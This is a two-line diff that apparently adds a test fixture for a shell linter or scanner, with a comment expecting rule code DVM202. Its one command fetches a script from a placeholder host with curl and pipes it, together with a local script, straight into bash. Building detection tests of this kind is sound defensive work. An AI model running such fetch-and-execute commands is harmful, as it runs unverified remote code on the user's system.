@@ -1,0 +1,2 @@
+# expect: DVM202
+{ curl -s https://x.example.org/a; cat local.sh; } | bash
